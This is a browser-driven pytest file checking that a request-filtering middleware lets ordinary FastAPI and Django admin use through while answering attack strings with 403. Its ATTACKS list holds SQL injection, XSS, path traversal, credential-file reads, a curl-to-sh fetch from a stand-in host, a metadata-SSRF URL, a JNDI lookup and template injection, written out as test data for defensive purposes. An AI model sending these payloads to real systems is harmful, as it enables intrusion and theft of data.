"""A FastAPI application and Django's admin behind the middleware, used in a real browser.

Nothing a visitor does is blocked, and attacks do not arrive. Needs Chromium.
"""

from __future__ import annotations

import contextlib
import json
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
import uvicorn

pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
pytest.importorskip("fastapi", reason="FastAPI is not installed")
pytest.importorskip("django", reason="Django is not installed")
from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse
from playwright.sync_api import Page, sync_playwright

from signoff.asgi import AsgiMiddleware, RouteRule, lenient, responses, strict
from signoff.effects.pipeline import PipelineDecision

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on this machine")

WITHIN_S = 60.0
TEXT = "O'Neil & Sons; 1 = 1? <3 -- select few, drop by! C:\\notes {x} `code` 50%"
ATTACKS = (
    "' or 1=1-- -",
    "1 union select password from users",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    ";cat /etc/passwd",
    "$(curl http://e.example/x|sh)",
    "http://169.254.169.254/latest/meta-data/",
    "${jndi:ldap://e.example/a}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
)
PAGE = """<!doctype html><title>Notes</title><link rel="icon" href="data:,">
<form id="f" method="post" action="/notes" enctype="multipart/form-data">
<input name="title"><textarea name="text"></textarea><input type="file" name="file">
<button>Save</button></form>
<form id="s" action="/search"><input name="q"><button>Search</button></form>
<button id="j" onclick="send()">Send</button><p id="out"></p><script>
async function send() {
  const text = document.querySelector('textarea').value;
  const answer = await fetch('/api/notes/7?fields=title,text&sort=-date', {method: 'PUT',
    headers: {'Content-Type': 'application/json'}, body: JSON.stringify({text, tags: ["b'c"]})});
  document.querySelector('#out').textContent = answer.status + ' ' + (await answer.json()).text;
}</script>"""


def notes(blocked: list[PipelineDecision]) -> FastAPI:
    """Build an application with a page, a form with an upload, a search and an interface."""
    app = FastAPI()

    @app.get("/", response_class=HTMLResponse)
    async def page() -> str:
        return PAGE

    @app.post("/notes")
    async def save(request: Request) -> dict[str, int]:
        return {"length": len(await request.body())}

    @app.get("/search")
    async def search(q: str) -> dict[str, str]:
        return {"q": q}

    @app.put("/api/notes/{number}")
    async def put(number: int, request: Request) -> dict[str, str]:
        return {"text": (await request.json())["text"]}

    app.add_middleware(
        AsgiMiddleware,
        routes=(RouteRule("/search", lenient().on("block", blocked.append)),),
        default=strict().on("block", blocked.append),
        responses=responses().on("block", blocked.append),
    )
    return app


@contextlib.contextmanager
def browsing() -> Iterator[Page]:
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        page = browser.new_page()
        page.set_default_timeout(WITHIN_S * 1000)
        yield page
        browser.close()


@contextlib.contextmanager
def serving(app: FastAPI) -> Iterator[str]:
    config = uvicorn.Config(app, host="127.0.0.1", port=0, log_level="error")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + WITHIN_S
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.01)
    yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    server.should_exit = True
    thread.join(WITHIN_S)


def test_fastapi_serves_a_visitor_and_no_attacker(tmp_path: Path) -> None:
    """Forms, an upload, JSON and a search pass; published attacks are answered with 403."""
    blocked: list[PipelineDecision] = []
    picture = tmp_path / "a 'b' <c>.png"
    picture.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40)
    with serving(notes(blocked)) as home, browsing() as page:
        page.goto(home)
        page.fill("input[name=title]", "It's here")
        page.fill("textarea", TEXT)
        page.click("#j")
        page.wait_for_function("document.querySelector('#out').textContent !== ''")
        assert f"200 {TEXT}" == page.text_content("#out")
        page.set_input_files("input[type=file]", str(picture))
        page.click("#f button")
        assert json.loads(page.inner_text("body"))["length"] > 10_000
        page.goto(home)
        page.fill("#s input", TEXT)
        page.click("#s button")
        assert {"q": TEXT} == json.loads(page.inner_text("body"))
        assert [] == [one.reason for one in blocked]
        found = [page.request.get(f"{home}/?q={quote(one)}").status for one in ATTACKS]
        assert [403] * len(ATTACKS) == found


def test_django_admin_serves_an_editor_and_no_attacker(tmp_path: Path) -> None:
    """Signing in, adding, changing, searching and deleting pass; attacks do not arrive."""
    script = Path(__file__).with_name("admin_site.py")
    words = [sys.executable, str(script), str(tmp_path)]
    with subprocess.Popen(words, stdout=subprocess.PIPE, text=True) as process:
        try:
            assert process.stdout is not None
            home = f"http://127.0.0.1:{process.stdout.readline().split()[1]}"
            with browsing() as page:
                edit(page, home)
                found = [
                    page.request.get(f"{home}/admin/auth/user/?q={quote(one)}").status
                    for one in ATTACKS
                ]
            assert [403] * len(ATTACKS) == found
        finally:
            process.terminate()
            said, _ = process.communicate(timeout=WITHIN_S)
    assert len(ATTACKS) == len(said.splitlines()), said


def edit(page: Page, home: str) -> None:
    """Do what an editor does in the admin."""
    page.goto(f"{home}/admin/login/?next=/admin/auth/user/%3Fq%3Do%2527neil")
    page.fill("#id_username", "mary")
    page.fill("#id_password", "c0rrect; horse & 'battery'")
    page.click("input[type=submit]")
    page.wait_for_url("**/admin/auth/user/**")
    page.goto(f"{home}/admin/auth/group/add/")
    page.fill("#id_name", TEXT[:60])
    page.click("input[name=_continue]")
    page.wait_for_url("**/change/**")
    assert TEXT[:60] == page.input_value("#id_name")
    page.goto(f"{home}/admin/auth/user/add/")
    page.fill("#id_username", "o.neil+shop@x")
    page.fill("#id_password1", "x' Or--<Tr0ub4dor>&3|")
    page.fill("#id_password2", "x' Or--<Tr0ub4dor>&3|")
    page.click("input[name=_save]")
    page.wait_for_url("**/change/**")
    page.fill("#id_last_name", "O'Neil -- select few <3")
    page.click("input[name=_save]")
    page.wait_for_url("**/admin/auth/user/")
    assert "O'Neil -- select few <3" in page.inner_text("#result_list")
    page.goto(f"{home}/admin/auth/user/?is_staff__exact=0&q=o%27neil&o=-1.2")
    assert "1 user" in page.inner_text("body")
